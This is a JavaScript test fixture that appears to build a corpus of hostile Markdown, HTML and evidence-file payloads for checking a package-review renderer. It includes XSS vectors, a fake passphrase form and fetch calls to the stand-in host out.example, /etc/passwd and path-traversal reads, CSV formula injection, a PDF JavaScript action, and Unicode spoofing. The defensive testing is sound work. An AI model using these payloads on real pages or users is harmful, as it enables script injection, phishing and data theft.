// Hostile Markdown, our own: whoever writes a package may try to run something in the reviewer's browser,
// to send something out, to imitate a form, or to show other words than were signed.
//
// RUN is what every payload tries to do; a page on which it ran has `window.ran`.

export const OUT = "https://out.example/x";
const RUN = "window.ran=1;alert(1)";
const ENCODED = Buffer.from(`<script>${RUN}</script>`).toString("base64");
const tab = "\t";

/** Addresses that run, lead out in disguise, or read this computer's files. */
const ADDRESSES = {
  plain: `javascript:${RUN}`,
  cased: `JaVaScRiPt:${RUN}`,
  tabbed: `java${tab}script:${RUN}`,
  "entity tab": `java&Tab;script:${RUN}`,
  "entity line feed": `java&#10;script:${RUN}`,
  "entity letter": `&#106;avascript:${RUN}`,
  "entity letter in hex": `&#x6A;avascript:${RUN}`,
  "entity with zeros": `&#0000106avascript:${RUN}`,
  "entity colon": `javascript&colon;${RUN}`,
  "numbered colon": `javascript&#58;${RUN}`,
  "percent letter": `%6aavascript:${RUN}`,
  "percent colon": `javascript%3A${RUN}`,
  "leading control": `javascript:${RUN}`,
  "leading no-break space": `&nbsp;javascript:${RUN}`,
  "escaped colon": `javascript\\:${RUN}`,
  "zero width": `java​script:${RUN}`,
  "full width": `ｊａｖａｓｃｒｉｐｔ：${RUN}`,
  vbscript: `vbscript:msgbox(1)`,
  livescript: `livescript:${RUN}`,
  "data page": `data:text/html,<script>${RUN}</script>`,
  "data base64": `data:text/html;base64,${ENCODED}`,
  "data svg": `data:image/svg+xml,<svg onload=${RUN}>`,
  "data cased": `Data:text/html;base64,${ENCODED}`,
  "data no type": `data:,${RUN}`,
  feed: `feed:javascript:${RUN}`,
  "view source": `view-source:javascript:${RUN}`,
  blob: "blob:https://out.example/1",
  filesystem: "filesystem:https://out.example/1",
  file: "file:///etc/passwd",
  "no scheme": "//out.example/x",
  backslashes: "\\\\\\\\out.example\\\\x",
  mixed: "/\\\\out.example/x",
  "one slash": "https:/\\\\out.example",
  query: "?x=javascript:alert(1)",
  upward: "../../../../../../etc/passwd",
};

/** Where an address can stand. */
const PLACES = {
  link: (a) => `[click](${a})`,
  angle: (a) => `[click](<${a}>)`,
  titled: (a) => `[click](${a} "a title")`,
  image: (a) => `![picture](${a})`,
  reference: (a) => `[click][r]\n\n[r]: ${a}`,
  "image reference": (a) => `![picture][r]\n\n[r]: <${a}> 'title'`,
  autolink: (a) => `<${a}>`,
  bare: (a) => `See ${a} for more.`,
  table: (a) => `| a | b |\n|---|---|\n| [x](${a}) | ![y](${a}) |`,
  nested: (a) => `> - **[_x ![y](${a})_](${a})**`,
  footnote: (a) => `A note.[^n]\n\n[^n]: [x](${a})`,
};

/** Raw HTML in every shape. */
const HTML = [
  `<script>${RUN}</script>`, `<SCRIPT SRC=${OUT}></SCRIPT>`, `<script\n>${RUN}</script\n>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<script/x>${RUN}</script>`, `<script src="data:text/javascript,${RUN}"></script>`,
  `<script type=module>import "${OUT}"</script>`, `<script type="text/plain">x</script>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<img src=x onerror=${RUN}>`, `<img src=x onerror="${RUN}"//`, `<img/src=x/onerror=${RUN}>`, `<IMG """><SCRIPT>${RUN}</SCRIPT>">`, `<img srcset="${OUT} 1x">`, `<img src="${OUT}">`, `<img src=x oneonerrorrror=${RUN}>`, `<image src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`, `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`, `<svg><set attributeName=onmouseover to=${RUN}>`, `<svg><style><img src=x onerror=${RUN}></style></svg>`, `<svg><image href="${OUT}"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`, `<math href="javascript:${RUN}">x</math>`, `<math><maction actiontype="statusline#${OUT}">x</maction></math>`, `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
  `<iframe src="javascript:${RUN}"></iframe>`, `<iframe srcdoc="<script>${RUN}</script>"></iframe>`, `<iframe src="${OUT}">`, `<frameset><frame src="javascript:${RUN}"></frameset>`, `<object data="javascript:${RUN}"></object>`, `<object data="data:text/html,<script>${RUN}</script>">`, `<embed src="javascript:${RUN}">`, `<embed src="${OUT}" type="application/x-shockwave-flash">`, `<applet code=x>`, `<portal src="${OUT}">`, `<fencedframe src="${OUT}">`,
  `<form action="${OUT}"><input name=passphrase type=password><button>Sign</button></form>`, `<input onfocus=${RUN} autofocus>`, `<button onclick=${RUN}>Approve</button>`, `<button formaction="javascript:${RUN}">x</button>`, `<isindex action="javascript:${RUN}" type=image>`, `<select onfocus=${RUN} autofocus><option>x</select>`, `<textarea onfocus=${RUN} autofocus>`, `<keygen onfocus=${RUN} autofocus>`, `<label for=reviewer>Type your passphrase</label>`, `</form><form action="${OUT}">`, `<input type=hidden name=ticket value=1>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<meta http-equiv=refresh content="0;url=${OUT}">`, `<meta http-equiv=Content-Security-Policy content="script-src *">`, `<meta name=referrer content=unsafe-url>`, `<meta charset=utf-7>+ADw-script+AD4-`, `<base href="https://out.example/">`, `<base target=x>`, `<link rel=stylesheet href="${OUT}">`, `<link rel=import href="${OUT}">`, `<link rel=prefetch href="${OUT}">`, `<link rel=dns-prefetch href="//out.example">`, `<title>Approved</title>`, `</title><script>${RUN}</script>`, `<html onload=${RUN}>`, `<body onload=${RUN}>`, `<body background="${OUT}">`, `<head><script>${RUN}</script></head>`, `</main></body></html><script>${RUN}</script>`,
  `<style>@import "${OUT}";</style>`, `<style>body{display:none}</style>`, `<style>.deed::before{content:"approved"}</style>`, `<style>@font-face{font-family:x;src:url(${OUT})}*{font-family:x}</style>`, `<style>input[value^=a]{background:url(${OUT})}</style>`, `<div style="background:url(${OUT})">x</div>`, `<div style="position:fixed;inset:0">Approved</div>`, `<p style="width:expression(${RUN})">x</p>`, `<p style="behavior:url(${OUT})">x</p>`, `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${RUN}">x`,
  `<details open ontoggle=${RUN}>x</details>`, `<video src=x onerror=${RUN}>`, `<video poster="${OUT}">`, `<audio src="${OUT}" autoplay>`, `<source onerror=${RUN}>`, `<track src="${OUT}">`, `<marquee onstart=${RUN}>x</marquee>`, `<bgsound src="${OUT}">`, `<dialog open onclose=${RUN}>Approved</dialog>`, `<template><script>${RUN}</script></template>`, `<template shadowrootmode=open><script>${RUN}</script></template>`, `<slot onslotchange=${RUN}>`, `<xss onpointerenter=${RUN} style=position:fixed;inset:0>x</xss>`, `<x contenteditable onblur=${RUN}>x</x>`, `<a href="javascript:${RUN}">x</a>`, `<a href="&#x6A;avascript:${RUN}">x</a>`, `<a href=" javascript:${RUN}">x</a>`, `<a ping="${OUT}" href="#">x</a>`, `<a href="#" target=_blank onclick=${RUN}>x</a>`, `<area href="javascript:${RUN}">`, `<p id=main>x</p>`, `<p id=check>x</p>`, `<p class="notice notice--ok">Approved</p>`, `<span hidden>words nobody sees</span>`, `<b onmouseover=${RUN}>x</b>`, `<custom-element is=x>`, `<plaintext>`, `<xmp><script>${RUN}</script></xmp>`, `<listing>x`, `<textarea></textarea><script>${RUN}</script>`, `<noembed><img title="</noembed><script>${RUN}</script>"></noembed>`,
  `<!-- hidden words -->`, `<!--><script>${RUN}</script>-->`, `<!-- --!><img src=x onerror=${RUN}> -->`, `<!--[if IE]><script>${RUN}</script><![endif]-->`, `<![CDATA[<script>${RUN}</script>]]>`, `<?xml version="1.0"?><?xml-stylesheet href="${OUT}"?>`, `<!DOCTYPE html [<!ENTITY x "y">]>`, `<?php echo 1 ?>`, `<%= 1 %>`, `</p onclick=${RUN}>`, `<br onclick=${RUN}>`, `<br/ onclick=${RUN}>`, `<sub onclick=${RUN}>x</sub>`, `<sup style=x>2</sup>`, `<BR>`, `<br\n>`, `<sub><script>${RUN}</script></sub>`, `<a\nhref="javascript:${RUN}">x</a>`, `<\u0000script>${RUN}</script>`, `<s\u0000cript>${RUN}</script>`, `\u0000`, `<script\u000c>${RUN}</script>`, `＜script＞${RUN}＜/script＞`, `&lt;script&gt;${RUN}&lt;/script&gt;`, `&#60;script&#62;${RUN}&#60;/script&#62;`, `&amp;lt;script&amp;gt;`, `\\<script>${RUN}\\</script>`,
];

/** What Markdown itself can be made to do. */
const STRUCTURES = [
  "`<script>" + RUN + "</script>`", "``` \"><script>" + RUN + "</script>\nx\n```", "```html onload=" + RUN + "\n<script>" + RUN + "</script>\n```", "~~~<img src=x onerror=" + RUN + ">\nx\n~~~", "    <script>" + RUN + "</script>",
  `[x](x "\\"onmouseover=${RUN} y=\\"")`, `[x](x '"><script>${RUN}</script>')`, `![\"onerror=${RUN} x=\"](x.png)`, `![x](x.png "\\" onload=\\"${RUN}")`, `![<img src=x onerror=${RUN}>](x.png)`, `[<script>${RUN}</script>](x.md)`, `[x](<x onclick=${RUN}>)`, `[x](x"onclick="${RUN})`, `[x]("><script>${RUN}</script>)`,
  `# "><script>${RUN}</script>`, `## <img src=x onerror=${RUN}>`, `# constructor\n\n# __proto__\n\n# toString`, `## main\n\n## check\n\n## errors\n\n## decide`, `# a\n# a\n# a`,
  `[^"><script>]: ${RUN}\n\nx[^"><script>]`, `x[^a]\n\n[^a]: <script>${RUN}</script>`, `x[^a][^a][^a]\n\n[^a]: y[^b]\n\n[^b]: z[^a]`, `[r]: javascript:${RUN} "<script>"\n\n[r] [R][] [x][r]`, `[R]: https://a.example\n[r]: javascript:${RUN}\n\n[r]`, `[a]: <b>\n[b]: <a>\n\n[a] [b]`, `[toString] [__proto__] [constructor]`,
  `| <script>${RUN}</script> | b |\n|---|---|\n| "onclick=${RUN} | <img src=x onerror=${RUN}> |`, `|a|b|\n|:-:|--:|\n|x|y|z|<svg onload=${RUN}>|`, "| a |\n|---|\n" + "| x |\n".repeat(400), `|${"a|".repeat(120)}\n|${"-|".repeat(120)}\n|x|`,
  "> ".repeat(90) + `<script>${RUN}</script>`, "- ".repeat(60) + "x", "[".repeat(500) + "x" + "]".repeat(500), "*".repeat(3000), "_a".repeat(1500), "`".repeat(700) + "x", "![".repeat(400), "[x](".repeat(400), "<".repeat(1500), "&".repeat(1500), "\\".repeat(1500), "((((".repeat(300), "~".repeat(999), "\n".repeat(2000) + "x", "1) ".repeat(99) + "x", "> ".repeat(400) + "too deep",
  "- [ ] not read\n- [x] read", "- [x]<input type=checkbox onclick=" + RUN + ">", "www.out.example", "https://out.example/x?<script>", "<https://out.example/\"onclick=" + RUN + ">", "<mailto:a@b.example?subject=%0aBcc:c@d.example>", "a@out.example", "<a@b.example\"onclick=1>", "xmpp:a@b.example", "mailto:<script>@x.example",
  "\u202edevorppa\u202c", "\u2066approved\u2069", "a\u200bb\u200cc\u200dd\ufeff", "\u00adsoft\u00adhyphen", "\u{e0041}\u{e0042} tags", "e\u0301".repeat(200), "Z\u0351\u0352\u0353".repeat(300), "\u0007bell \u001b[31mred\u001b[0m", "\u2028line\u2029paragraph", "аpproved in Cyrillic", "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67", "\u0085 next line", "\u034f joiner", "\u3164 filler", "\ufff9anchor\ufffaannotation\ufffb",
  "---\ntitle: x\nlayout: <script>" + RUN + "</script>\n---\n", "+++\ntitle = \"x\"\n+++\n", "{{ frame.me }} {% include \"/etc/passwd\" %} {# x #}", "{{ 7 * 7 }} ${7*7} <%= 7*7 %> #{7*7}", "{% raw %}<script>" + RUN + "</script>{% endraw %}", "[[wiki]] ![[embed]]", "$$\\href{javascript:" + RUN + "}{x}$$", "$`x`$ <math>", ":::note\n<script>" + RUN + "</script>\n:::", "[x]{onclick=" + RUN + "}", "# x {#y onclick=" + RUN + "}", "![x](x.png){width=1 onerror=" + RUN + "}", "@import url(" + OUT + ")", "==x== ^x^ ~x~ ++x++ ||<script>||", "Term\n: <script>" + RUN + "</script>", "*[HTML]: <script>" + RUN + "</script>\n\nHTML", "[TOC]\n\n[[_TOC_]]", "!include /etc/passwd", "<<< @/etc/passwd", ".. raw:: html\n\n   <script>" + RUN + "</script>", "![x](../../../../countersign.toml)", "![x](/etc/passwd)", "[x](evidence/../../../x)", "![x](evidence/body/evil.svg)", "[x](evidence/body/evil.html)", "[x](#main)", "[x](#\"onclick=" + RUN + ")", "[x](body.md#<script>)",
];

/** All payloads, each with a name. */
export const PAYLOADS = [
  ...Object.entries(PLACES).flatMap(([place, put]) => Object.entries(ADDRESSES).map(([name, address]) => ({ name: `${name} as ${place}`, text: put(address) }))),
  ...HTML.flatMap((text, n) => [{ name: `HTML ${n}`, text }, { name: `HTML ${n} in a sentence`, text: `Words ${text} and more.` }]),
  ...STRUCTURES.map((text, n) => ({ name: `structure ${n}`, text })),
];

/** Short ones, for fields that hold one line. */
export const LINES = HTML.concat(STRUCTURES).filter((text) => text.length < 120 && !/[\u0000-\u001f\u007f]/.test(text));

/** Evidence files that run where they are opened as what they claim to be. */
export const EVIDENCE = {
  "evil.html": `<!DOCTYPE html><script>${RUN};fetch("${OUT}")</script><img src="${OUT}">`,
  "evil.htm": `<script>${RUN}</script>`,
  "evil.xhtml": `<html xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></html>`,
  "evil.svg": `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script><image href="${OUT}"/><rect width="9" height="9"/></svg>`,
  "evil.xml": `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  "evil.js": RUN,
  "evil.mjs": RUN,
  "evil.css": `@import "${OUT}";`,
  "evil.json": `"<script>${RUN}</script>"`,
  "evil.csv": `a,b\n"=cmd|' /C calc'!A0",<script>${RUN}</script>\n`,
  "evil.txt": `<html><script>${RUN}</script></html>`,
  "evil.md": `<script>${RUN}</script>`,
  "evil.pdf": `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n`,
  "evil.png": `<script>${RUN}</script>`,
  "evil.bin": `\u0000<script>${RUN}</script>`,
  "evil.mht": `MIME-Version: 1.0\nContent-Type: text/html\n\n<script>${RUN}</script>`,
};
